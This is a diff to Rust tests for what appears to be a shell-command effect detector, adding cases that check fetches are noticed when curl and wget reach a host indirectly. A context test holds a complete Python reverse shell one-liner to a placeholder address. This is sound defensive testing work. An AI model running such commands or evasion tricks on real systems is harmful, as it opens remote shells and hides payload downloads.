@@ -305,6 +305,30 @@ fn perl_droppers_fetch_start_and_connect() {
 }
 
 #[test]
+fn what_programs_that_fetch_are_asked_for_is_fetched() {
+    for (line, urls) in [
+        ("curl -s 'http://192.0.2.1/f[1-2].{a,b}'", &["f1.a", "f1.b", "f2.a", "f2.b"][..]),
+        ("printf 'url = \"http://192.0.2.1/k\"\\n' | curl -s -K -", &["k"]),
+        ("echo http://192.0.2.1/l | wget -q -i - -O x", &["l"]),
+        ("echo m | wget -q -B http://192.0.2.1/ -i -", &["m"]),
+        ("curl --socks5-hostname 192.0.2.7:9050 --proto =http -o n http://192.0.2.1/n", &["n"]),
+        (
+            "s='u=http://192.0.2.1/q;x'; [[ $s =~ u=([^;]+) ]] && curl -s \"${BASH_REMATCH[1]}\"",
+            &["q"],
+        ),
+    ] {
+        let (output, effects) = effects(line, &[]);
+        for url in urls {
+            let whole = format!("http://192.0.2.1/{url}");
+            assert!(
+                effects.iter().any(|it| it.starts_with("fetch ") && it.ends_with(&whole)),
+                "{line}: {output} {effects:?}"
+            );
+        }
+    }
+}
+
+#[test]
 fn a_reverse_shell_of_python_is_told_of() {
     let line = "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"192.0.2.9\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);'";
     let (output, effects) = effects(line, &[]);
